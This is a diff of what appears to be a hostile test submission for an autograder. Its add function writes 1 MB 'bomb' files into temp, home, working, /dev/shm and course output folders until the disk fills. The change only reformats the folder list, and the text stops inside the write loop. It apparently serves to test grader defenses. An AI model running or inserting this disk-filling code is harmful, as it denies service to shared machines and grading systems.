@@ -1,4 +1,5 @@
 """Writes files until the disk is full, everywhere it can."""
+
 QUESTION = "q1"
 MODULE = "arith"
 ATTACKED = ["q1.1"]
@@ -10,8 +11,15 @@ import tempfile as _tempfile
 
 def add(a, b):
     block = b"x" * 2**20
-    for folder in (_tempfile.gettempdir(), _os.path.expanduser("~"), _os.getcwd(), "/var/tmp", "/dev/shm",
-                   "{{COURSE}}", "{{OUT}}"):
+    for folder in (
+        _tempfile.gettempdir(),
+        _os.path.expanduser("~"),
+        _os.getcwd(),
+        "/var/tmp",
+        "/dev/shm",
+        "{{COURSE}}",
+        "{{OUT}}",
+    ):
         for i in range(100_000):
             try:
                 with open(_os.path.join(folder, f"bomb{i}"), "wb") as fh:
